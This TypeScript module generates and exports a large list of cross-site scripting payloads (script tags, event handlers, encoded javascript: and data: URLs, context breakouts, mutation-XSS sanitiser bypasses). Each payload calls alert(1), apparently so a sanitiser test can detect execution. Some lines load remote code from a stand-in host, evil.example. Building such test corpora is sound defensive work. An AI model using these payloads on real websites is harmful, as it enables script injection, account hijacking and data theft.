/**
 * Texts that would run a script if a page let them: the families of OWASP's filter evasion list and of known ways around sanitisers, written
 * out by code. Each of them calls `alert(1)`, so whoever watches `alert` sees it run.
 */
const RUN = 'alert(1)';

const entities = (text: string) => [...text].map((sign) => `&#${sign.codePointAt(0)};`).join('');
const hexEntities = (text: string) => [...text].map((sign) => `&#x${sign.codePointAt(0)?.toString(16)}`).join('');
const waves = (text: string) => [...text].map((sign, at) => (at % 2 === 0 ? sign.toUpperCase() : sign)).join('');

/** Elements that run what they hold or load. */
const scripts = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script >${RUN}</script >`,
  `<script/x>${RUN}</script>`,
  `<script\n>${RUN}</script\n>`,
  `<script\t>${RUN}`,
  `<script>${RUN}//`,
  `<<script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script type=module>${RUN}</script>`,
  `<script src=data:text/javascript,${RUN}></script>`,
  `<script src="data:text/javascript;base64,${btoa(RUN)}"></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script async src=/img/1001/x.js></script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script>${entities(RUN)}</script></svg>`,
  `<svg><script href=data:text/javascript,${RUN} /></svg>`,
  `<math><script>${RUN}</script></math>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe srcdoc="${entities(`<script>parent.${RUN}</script>`)}"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<link rel=import href=//evil.example/x.html>`,
  `<style>@import '//evil.example/x.css';</style>`,
  `<style>*{background:url(javascript:${RUN})}</style>`,
  `<style>*{x:expression(${RUN})}</style>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=data:text/html,<script>${RUN}</script>">`,
  `<base href=//evil.example/>`,
  `<template><script>${RUN}</script></template>`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  `<noscript><script>${RUN}</script></noscript>`,
  `<xml onreadystatechange=${RUN}>`,
  `<applet code=x onerror=${RUN}></applet>`,
  `<frameset onload=${RUN}><frame src=x></frameset>`,
  `<portal src=javascript:${RUN}></portal>`,
];

/** Elements and the events that reach them by themselves or by the reader's finger. */
const elements: readonly (readonly [open: string, event: string, close: string])[] = [
  ['img src=x', 'onerror', ''],
  ['img src=/favicon.ico', 'onload', ''],
  ['image src=x', 'onerror', ''],
  ['svg', 'onload', '</svg>'],
  ['svg><animate attributeName=x dur=1s', 'onbegin', '</svg>'],
  ['svg><set attributeName=x', 'onbegin', '</svg>'],
  ['svg><image href=x', 'onerror', '</svg>'],
  ['body', 'onload', ''],
  ['body', 'onpageshow', ''],
  ['body', 'onhashchange', ''],
  ['video src=x', 'onerror', '</video>'],
  ['video><source src=x', 'onerror', '</video>'],
  ['audio src=x', 'onerror', '</audio>'],
  ['input autofocus', 'onfocus', ''],
  ['input type=image src=x', 'onerror', ''],
  ['select autofocus', 'onfocus', '</select>'],
  ['textarea autofocus', 'onfocus', '</textarea>'],
  ['button autofocus', 'onfocus', '</button>'],
  ['a href=# id=x tabindex=1', 'onfocus', 'x</a>'],
  ['a', 'onclick', 'x</a>'],
  ['p', 'onmouseover', 'x</p>'],
  ['span', 'onpointerenter', 'x</span>'],
  ['div', 'onwheel', 'x</div>'],
  ['div contenteditable autofocus', 'onfocus', 'x</div>'],
  ['div style=animation-name:spin;animation-duration:1s', 'onanimationstart', 'x</div>'],
  ['div style=transition:color/**/1s', 'ontransitionend', 'x</div>'],
  ['details open', 'ontoggle', '<summary>x</summary></details>'],
  ['marquee', 'onstart', 'x</marquee>'],
  ['iframe src=/favicon.ico', 'onload', '</iframe>'],
  ['object data=x', 'onerror', '</object>'],
  ['table', 'onmouseenter', '<tr><td>x</td></tr></table>'],
  ['td', 'onclick', 'x</td>'],
  ['form', 'onsubmit', '<button>x</button></form>'],
  ['math><mtext', 'onclick', 'x</mtext></math>'],
];

const writings: readonly ((event: string) => string)[] = [
  (event) => ` ${event}=${RUN}`,
  (event) => ` ${event}="${RUN}"`,
  (event) => ` ${waves(event)}='${RUN}'`,
  (event) => `/${event}=${RUN}`,
  (event) => `\n${event}\n=\n"${entities(RUN)}"`,
  (event) => ` ${event}=${hexEntities(RUN)} x`,
  (event) => ` x="y"${event}=window['al'+'ert'](1)`,
];

const events = elements.flatMap(([open, event, close]) => writings.map((write) => `<${open}${write(event)}>${close}`));

/** Addresses that are programs, in the disguises browsers have seen through. */
const addresses = [
  `javascript:${RUN}`,
  `${waves('javascript')}:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `java&Tab;script:${RUN}`,
  `javascript&colon;${RUN}`,
  `${entities('javascript')}:${RUN}`,
  `${hexEntities('javascript:')}${RUN}`,
  `javascript://%0a${RUN}`,
  `javascript://omo.partner.example/%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,${btoa(`<script>${RUN}</script>`)}`,
  `vbscript:${RUN}`,
];

const carriers: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a href='${address}' target=_blank>x</a>`,
  (address) => `<img src="${address}" width=1 height=1>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<embed src="${address}">`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<form action="${address}"><button>x</button></form>`,
  (address) => `<button form=x formaction="${address}">x</button>`,
  (address) => `<svg><a xlink:href="${address}"><text y=9>x</text></a></svg>`,
  (address) => `<math href="${address}">x</math>`,
  (address) => `<p style="background:url(${address})">x</p>`,
  (address) => `<map name=m><area href="${address}"></map>`,
];

const links = carriers.flatMap((carry) => addresses.map(carry));

/** Out of an attribute, a comment, a title, a text for scripts: wherever a page might have put them. */
const breakouts = [
  '">',
  "'>",
  '`>',
  '"/>',
  '</p>',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</noscript>',
  '-->',
  ']]>',
  '<!--',
  '\\">',
].flatMap((way) => [`${way}<script>${RUN}</script>`, `${way}<img src=x onerror=${RUN}>`, `${way}<svg/onload=${RUN}>`]);

const inAttributes = [
  `" onmouseover="${RUN}`,
  `' onfocus='${RUN}' autofocus='`,
  `" style="x:expression(${RUN})`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `__proto__`,
  `${RUN};//`,
  `\u2028${RUN}`,
  `＜script＞${RUN}＜/script＞`,
];

/** Harmless to the parser that cleans, and another thing to the one that shows. */
const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${RUN}>">`,
  `<iframe><p title="</iframe><img src=x onerror=${RUN}>">`,
  `<noembed><p title="</noembed><img src=x onerror=${RUN}>">`,
  `<title><p title="</title><img src=x onerror=${RUN}>">`,
  `<plaintext><p title="</plaintext><img src=x onerror=${RUN}>">`,
  `<svg><style><img src=x onerror=${RUN}></style>`,
  `<svg><title><img src=x onerror=${RUN}></title></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<svg><desc><img src=x onerror=${RUN}></desc></svg>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  `<select><template><img src=x onerror=${RUN}></template></select>`,
  `<table><td><img src=x onerror=${RUN}></table>`,
  `<a href="https://x/\`><img src=x onerror=${RUN}>">x</a>`,
  `<p title="<!--"><img src=x onerror=${RUN}><p title="-->">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!---!><img src=x onerror=${RUN}>`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml <img src=x onerror=${RUN}>?>`,
  `<!DOCTYPE x [<!ENTITY y "<img src=x onerror=${RUN}>">]>`,
  `<style></style\u00a0><img src=x onerror=${RUN}></style>`,
  `<svg><a><style><img src=x onerror=${RUN}></style></a></svg>`,
  `<p id="x"><p id="x"><img name=getElementById src=x onerror=${RUN}>`,
  `<li value="</li><img src=x onerror=${RUN}>">x`,
];

export const hostilePayloads: readonly string[] = [
  ...new Set([...scripts, ...events, ...links, ...breakouts, ...inAttributes, ...mutations]),
];

/** Those that would be the target of a link. */
export const hostileAddresses: readonly string[] = addresses;
